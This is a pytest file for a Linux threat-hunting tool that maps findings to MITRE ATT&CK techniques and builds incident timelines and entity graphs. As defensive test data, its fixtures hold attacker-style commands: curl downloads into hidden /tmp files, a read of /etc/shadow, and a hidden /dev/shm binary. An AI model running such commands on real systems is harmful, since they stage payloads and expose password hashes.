"""All findings together: the incident over time, its techniques, the entities and their links."""

from __future__ import annotations

import importlib
import pkgutil
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import linuxhunt
from linuxhunt import sections
from linuxhunt.schema import empty
from linuxhunt.sections import Finding, findings_frame
from linuxhunt.sections.attack import OTHER, source, tactics, technique
from linuxhunt.sections.entity_graph import entity_graph, files_named
from linuxhunt.sections.verdict import incident, span, techniques
from tests.made import events, utc


def finding(title: str, time: str = "2026-03-13 02:14:00", **more: Any) -> Finding:
    known = {
        "section": "logons", "severity": "High", "techniques": ("T1110.001",), "reason": "why",
        "start": utc(time), "end": utc(time), "records": (f"{title}:1", f"{title}:2"),
        "host": "web01",
    }  # fmt: skip
    return Finding(**{**known, "title": title, **more})


def _used() -> Iterator[str]:
    """Every technique that a check names, and every id in the text of the sections."""
    named = r"T\d{4}(?:\.\d{3})?"
    for module in pkgutil.iter_modules(sections.__path__, f"{sections.__name__}."):
        for value in vars(importlib.import_module(module.name)).values():
            for check in value if isinstance(value, tuple) else (value,):
                yield from re.findall(named, str(getattr(check, "techniques", "")))
    for path in Path(sections.__file__).parent.glob("*.py"):
        yield from re.findall(rf"\b{named}\b", path.read_text("utf-8"))


def test_every_technique_of_a_check_is_in_the_table() -> None:
    used = sorted(set(_used()))
    assert [name for name in used if technique(name).tactics == (OTHER,)] == []
    assert {"T1110.001", "T1059.004", "T1562.012"} <= set(used)


def test_the_table_names_its_source() -> None:
    assert source() == "MITRE ATT&CK Enterprise 18.1"
    assert tactics()[:3] == ("Reconnaissance", "Resource development", "Initial access")
    assert len(tactics()) == 14
    assert technique("T1053.003") == (
        "T1053.003", "Cron", ("Execution", "Persistence", "Privilege escalation"),
    )  # fmt: skip
    assert technique("T9999") == ("T9999", "", ("Other",))


def test_the_incident_is_findings_by_time_with_their_first_line() -> None:
    rows = findings_frame(
        [
            finding("late", "2026-03-13 03:00:00", section="network", severity="Low"),
            finding("early", techniques=()),
        ]
    )
    frame = incident(rows, {"early:2": "not the first", "late:1": "web01 sshd[7]: x"})
    assert frame.to_dict("records") == [
        {"TimeGenerated": utc("2026-03-13 02:14"), "Section": "logons", "Tactic": "Other",
         "EventSeverity": "High", "EventMessage": "early"},
        {"TimeGenerated": utc("2026-03-13 03:00"), "Section": "network",
         "Tactic": "Credential access", "EventSeverity": "Low",
         "EventMessage": "late\nweb01 sshd[7]: x"},
    ]  # fmt: skip
    assert incident(empty("findings"), {}).empty


@pytest.mark.parametrize(
    ("times", "expected"),
    [
        pytest.param(["02:00:00", "12:00:00"], ("01:36:00", "12:24:00"), id="some room around"),
        pytest.param(["02:00:00"], ("01:59:00", "02:01:00"), id="one moment"),
        pytest.param(["00:00:10", "23:59:50"], ("00:00:00", "00:00:00"), id="not past the window"),
        pytest.param([], ("00:00:00", "00:00:00"), id="nothing found"),
    ],
)
def test_the_window_of_the_incident(times: list[str], expected: tuple[str, str]) -> None:
    rows = findings_frame(finding(time, f"2026-03-13 {time}") for time in times)
    start, end = span(rows, utc("2026-03-13"), utc("2026-03-14"))
    assert (f"{start:%H:%M:%S}", f"{end:%H:%M:%S}") == expected


def test_techniques_stand_beside_each_tactic_that_they_serve() -> None:
    rows = findings_frame(
        [
            finding("a", techniques=("T1053.003", "T1053.003"), severity="Low"),
            finding("b", techniques=("T1053.003", "T1059.004"), severity="Medium"),
            finding("c", techniques=("T1059.004",), severity="High"),
            finding("d", techniques=("T0001",), severity="Informational"),
        ]
    )
    assert [tuple(row) for row in techniques(rows).itertuples(index=False)] == [
        ("Execution", "T1059.004", "Unix Shell", "High", 2),
        ("Execution", "T1053.003", "Cron", "Medium", 2),
        ("Persistence", "T1053.003", "Cron", "Medium", 2),
        ("Privilege escalation", "T1053.003", "Cron", "Medium", 2),
        ("Other", "T0001", "", "Informational", 1),
    ]
    assert techniques(empty("findings")).empty


def test_a_finding_that_sums_others_up_hides_no_severity() -> None:
    listed = ("T1059.004", "T1105", "T1560.001", "T1074.001", "T1003.008", "T1040", "T1496")
    rows = findings_frame(
        [
            finding("sum", techniques=listed),
            *(finding(name, techniques=(name,), severity="Low") for name in listed[:6]),
        ]
    )
    assert {(row.Technique, row.EventSeverity, row.Findings) for row in
            techniques(rows).itertuples()} == {
        *((name, "Low", 1) for name in listed[:6]), ("T1496", "High", 1),
    }  # fmt: skip


@pytest.mark.parametrize(
    ("command", "files"),
    [
        pytest.param(None, [], id="no command"),
        pytest.param("curl -s http://203.0.113.9/x -o /tmp/.x", ["/tmp/.x"], id="an address"),
        pytest.param("/usr/bin/cat /etc/shadow", ["/etc/shadow"], id="a program is no file of it"),
        pytest.param("/dev/shm/.s -q >/dev/null 2>&1", ["/dev/shm/.s"], id="devices"),
        pytest.param("sh -c 'tar czf /srv/a.tgz /srv/app/; rm /srv/a.tgz'",
                     ["/srv/a.tgz", "/srv/app"], id="quoted, and each once"),
        pytest.param(" ".join(f"/tmp/{i}" for i in range(9)),
                     [f"/tmp/{i}" for i in range(6)], id="many"),
    ],
)  # fmt: skip
def test_files_that_a_command_names(command: str | None, files: list[str]) -> None:
    assert files_named(command) == files


SESSIONS = events(
    "sessions",
    [{"LogonSessionId": "s1", "TargetUsername": "deploy", "SrcIpAddr": "203.0.113.9",
      "LogonProtocol": "SSH", "EventStartTime": utc("2026-03-13 02:14:07")}],
)  # fmt: skip
PROCESSES = events(
    "processes",
    [
        {"TargetProcessGuid": "p1", "LogonSessionId": "s1", "CommandLine": "sh -c x"},
        {"TargetProcessGuid": "p2", "ActingProcessGuid": "p1", "CommandLine": "sh"},
        {"TargetProcessGuid": "p3", "PreviousProcessGuid": "p2", "ActingProcessGuid": "p1"},
        {"TargetProcessGuid": "p4", "ActingProcessGuid": "p3",
         "CommandLine": "curl -o /tmp/.x http://198.51.100.7/"},
        {"TargetProcessGuid": "p5", "ActingProcessGuid": "gone",
         "TargetProcessName": "/usr/sbin/php-fpm"},
        {"TargetProcessGuid": "p6", "ActingProcessGuid": "p7"},
        {"TargetProcessGuid": "p7", "ActingProcessGuid": "p6"},
    ],
)  # fmt: skip


def drawn(*findings: Finding) -> tuple[dict[str, tuple[str, str | None]], set[tuple[str, ...]]]:
    """Nodes as value -> (label, severity); links as (value, label, value)."""
    graph = entity_graph(findings_frame(findings), SESSIONS, PROCESSES)
    nodes = {name[1]: (data["label"], data.get("severity")) for name, data in graph.nodes.items()}
    return nodes, {(a[1], data["label"], b[1]) for a, b, data in graph.edges(data=True)}


def test_a_session_hangs_below_its_address_and_user_and_a_process_below_its_session() -> None:
    nodes, links = drawn(
        finding("Shell", process="p1", session="s1", user="deploy", command="sh -c x"),
        finding("Fetch", process="p4", session="s1", severity="Medium", user="root",
                command="curl -o /tmp/.x http://198.51.100.7/", section="applications"),
    )  # fmt: skip
    assert nodes == {
        "deploy": ("deploy", "High"),
        "root": ("root", "Medium"),
        "203.0.113.9": ("203.0.113.9", None),
        "s1": ("13 Mar 02:14 SSH deploy", "High"),
        "p1": ("sh -c x", "High"),
        "p4": ("curl -o /tmp/.x http://198.51.100.7/", "Medium"),
        "/tmp/.x": ("/tmp/.x", "Medium"),
    }
    assert links == {
        ("203.0.113.9", "logged on", "s1"),
        ("deploy", "opened", "s1"),
        ("root", "opened", "s1"),
        ("s1", "ran", "p1"),
        ("p1", "ran, 2 between", "p4"),
        ("p4", "names", "/tmp/.x"),
    }


def test_what_has_no_session_hangs_below_user_or_host() -> None:
    nodes, links = drawn(
        finding("Server", process="p5", section="applications"),
        finding("Root", process="p6", user="root"),
        finding("Guessed", address="198.51.100.7", user="admin"),
        finding("Scan", address="192.0.2.1"),
        finding("New account", user="eve"),
    )
    assert nodes["p5"] == ("/usr/sbin/php-fpm", "High")
    assert nodes["p6"] == ("p6", "High")
    assert links == {
        ("web01", "ran", "p5"),
        ("root", "ran", "p6"),
        ("198.51.100.7", "Guessed", "admin"),
        ("192.0.2.1", "Scan", "web01"),
        ("web01", "New account", "eve"),
    }


def test_low_findings_are_drawn_where_there_is_no_graver_one() -> None:
    low = finding("Cron", user="vera", severity="Low")
    assert set(drawn(low)[0]) == {"web01", "vera"}
    assert set(drawn(low, finding("Guessed", address="192.0.2.1", user="admin"))[0]) == {
        "192.0.2.1",
        "admin",
    }


def test_a_host_alone_is_an_entity() -> None:
    assert drawn(finding("Gap in the logs")) == ({"web01": ("web01", "High")}, set())


def test_nothing_found_is_an_empty_graph() -> None:
    graph = entity_graph(empty("findings"), SESSIONS, PROCESSES)
    assert len(graph) == 0


def test_the_package_ships_the_table() -> None:
    table = Path(linuxhunt.__file__).parent / "sections" / "attack.json"
    assert table.stat().st_size < 60_000
    assert isinstance(pd.read_json(table, typ="series")["techniques"], dict)
